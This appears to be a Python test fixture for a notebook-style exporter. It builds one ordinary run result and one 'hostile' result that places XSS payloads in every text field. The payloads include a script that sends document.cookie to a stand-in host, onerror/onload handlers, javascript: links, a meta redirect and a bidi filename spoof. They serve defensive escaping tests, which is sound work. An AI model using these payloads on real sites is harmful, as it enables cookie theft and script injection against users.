"""Runs as values for the exporters: one with a bit of everything, one whose every text is an attack."""

from __future__ import annotations

from clicket.interpreter.result import Block, Display, File, ProgramError, Result, Skipped
from clicket.interpreter.sandbox.isolation import Isolation

PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20"><rect width="40" height="20" fill="teal"/></svg>'
TABLE = "<table><thead><tr><th></th><th>city</th></tr></thead><tbody><tr><th>0</th><td>Oslo</td></tr></tbody></table>"
TASK = """# Cities

Some *prose* first.

```python
print("one")
x = 1
x
```

Between, and a block that is not ours:

```sql
select 1
```

```python
plot()
1 / 0
```

The end.
"""
ISOLATION = Isolation(level="full", layers=("environment", "namespaces"))
ATTACKS = (
    "<script>fetch('https://evil.test/'+document.cookie)</script>",
    "</pre></iframe></div></body><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
    "\x00\x1b[2J\u202egnp.exe \ud800",
)


def everything() -> Result:
    """Prose, streams, a value, a picture in two forms, a table, an error."""
    error = ProgramError(
        type="ZeroDivisionError",
        message="division by zero",
        traceback='Traceback:\n  File "<block 2>", line 2\nZeroDivisionError: division by zero',
        block_index=1,
        line=2,
    )
    first = Block(index=0, code='print("one")\nx = 1\nx\n', lines=(4, 9), status="ok", stdout="one\n", value="1")
    second = Block(index=1, code="plot()\n1 / 0\n", lines=(16, 20), status="error", stderr="careful\n", error=error)
    displays = (
        Display(mime="image/png", data=PNG, block_index=1, group=1),
        Display(mime="image/svg+xml", data=SVG, block_index=1, group=1),
        Display(mime="text/html", data=TABLE, block_index=1, group=2),
        Display(mime="text/plain", data="   city\n0  Oslo", block_index=1, group=2),
    )
    return Result(
        status="error", task=TASK, blocks=(first, second), displays=displays, error=error, errors=(error,),
        files=(File(name="out.csv", size=12, sha256="0" * 64, artifact="sha256-0"),),
        skipped=(Skipped(what="sql block at line 13", why="only Python is run"),),
        isolation=ISOLATION, duration=0.25,
    )  # fmt: skip


def hostile(attack: str) -> Result:
    """The same attack in every place where a program or a model may put text."""
    error = ProgramError(type=attack, message=attack, traceback=attack, block_index=0, fatal=True)
    mimes = (
        "text/html", "text/plain", "image/svg+xml", "image/png", "text/markdown", "application/json", "text/latex", attack,
    )  # fmt: skip
    displays = [Display(mime=mime, data=attack, group=number) for number, mime in enumerate(mimes)]
    displays.append(Display(mime="image/png", data=PNG, group=99))
    displays.append(Display(mime="text/plain", data=attack, group=99))
    block = Block(
        index=0, code=attack, lines=(2, 5), status="error", stdout=attack, stderr=attack, value=attack, error=error
    )
    return Result(
        status="error", reason=attack, task=f"{attack}\n\n```python {attack}\n{attack}\n```\n\n{attack}\n\n"
        "[link](javascript:alert(1)) ![picture](https://evil.test/p.png) <https://good.test/>\n",
        blocks=(block,), displays=tuple(displays), error=error, errors=(error,),
        files=(File(name=attack, size=1, sha256="", artifact=None),), skipped=(Skipped(what=attack, why=attack),),
        warnings=(attack,), isolation=ISOLATION,
    )  # fmt: skip
